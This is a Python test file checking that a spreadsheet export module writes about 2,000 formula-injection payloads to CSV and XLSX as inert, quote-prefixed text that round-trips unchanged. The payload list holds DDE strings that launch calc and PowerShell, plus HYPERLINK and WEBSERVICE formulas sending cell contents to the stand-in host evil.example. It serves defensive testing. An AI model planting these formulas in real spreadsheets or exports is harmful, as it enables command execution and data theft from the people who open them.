"""T15: 2,000 payloads × CSV and XLSX: nothing runs, nothing is cut, and each comes back."""

import csv
import io
import random
import re
import zipfile

from openpyxl import load_workbook

from surveillance.spreadsheets.files import read
from surveillance.spreadsheets.formulas import as_written, inert
from surveillance.spreadsheets.writing import CELL, Table, csv_lines, write_xlsx

TRIGGERS = "=+-@|%＝＋－＠﹦﹢﹣﹫"
BEFORE = ("", "\t", "\n", " ", "\u3000", "'", "''", "\xa0")
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"Here")',
    'WEBSERVICE("https://evil.example/")',
    "SUM(1,2)*cmd|' /C powershell'!A0",
    'DDE("cmd";"/C calc";"x")',
    'IMPORTXML(CONCAT(A1);"//a")',
    "a;=1+1",
    'a";=1+1',
    "長い文字列",
)


def payloads() -> list[str]:
    dice = random.Random(15)
    found = {
        before + trigger + body + "x" * dice.randrange(4)
        for before in BEFORE
        for trigger in TRIGGERS
        for body in BODIES
    }
    while len(found) < 2_000:
        found.add(dice.choice(TRIGGERS) + "".join(dice.choices(TRIGGERS + "A1()!|,;'\"", k=9)))
    return sorted(found)


PAYLOADS = payloads()


def as_csv(texts: list[str]) -> str:
    return "".join(csv_lines(("text",), ([text] for text in texts)))


def as_xlsx(texts: list[str]) -> bytes:
    out = io.BytesIO()
    write_xlsx(out, [Table("answers", ("text",), [[text] for text in texts])])
    return out.getvalue()


def test_there_are_enough():
    assert len(PAYLOADS) >= 2_000


def test_no_cell_of_a_csv_begins_a_formula():
    rows = list(csv.reader(io.StringIO(as_csv(PAYLOADS).removeprefix("\ufeff"), newline="")))
    assert len(rows) == 1 + len(PAYLOADS)
    for (cell,) in rows[1:]:
        assert cell.startswith("'"), cell


def test_nor_where_excel_separates_by_semicolons_or_tabs():
    for separator in ";\t":
        lines = io.StringIO(as_csv(PAYLOADS).removeprefix("\ufeff"), newline="")
        cells = [cell for row in csv.reader(lines, delimiter=separator) for cell in row]
        assert not [cell for cell in cells if cell.lstrip()[:1] in set(TRIGGERS)]


def test_every_cell_of_a_workbook_is_a_text_and_stays_one():
    content = as_xlsx(PAYLOADS)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f[ >]", sheet)
    rows = load_workbook(io.BytesIO(content))["answers"].iter_rows(min_row=2)
    cells = [cell for (cell,) in rows]
    assert len(cells) == len(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells), "editing one would make it a formula"


def test_each_comes_back_as_it_was():
    expected = [text.replace("\r", "\n").strip() for text in PAYLOADS]
    for content in (as_csv(PAYLOADS).encode(), as_xlsx(PAYLOADS)):
        lines = read(content, known=["text"], title="answers").lines
        assert [line.cells["text"].text for line in lines] == expected


def test_what_is_no_formula_is_left_alone():
    for text in ("", "plain", "-5", "-1,200.50", "'quoted'", "5=5", "O'Brien", "３＋４"):
        assert inert(text) == text
        assert as_written(text) == text


def test_a_number_keeps_its_sign_and_a_telephone_number_does_not_run():
    assert as_csv(["-12.5"]).splitlines()[1] == '"-12.5"'
    assert as_csv(["+32 2 555 55 55"]).splitlines()[1] == '"\'+32 2 555 55 55"'


def test_a_text_longer_than_a_cell_of_excel_says_so_and_the_csv_has_all():
    text = "x" * (CELL + 10)
    assert text in as_csv([text])
    (cell,) = list(load_workbook(io.BytesIO(as_xlsx([text])))["answers"].iter_rows())[1]
    assert len(cell.value) == CELL
    assert cell.value.endswith("the CSV file has all.")


def test_characters_that_xml_cannot_hold_do_not_break_the_workbook():
    (cell,) = list(load_workbook(io.BytesIO(as_xlsx(["a\x07b\ufffe"])))["answers"].iter_rows())[1]
    assert cell.value == "a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}"
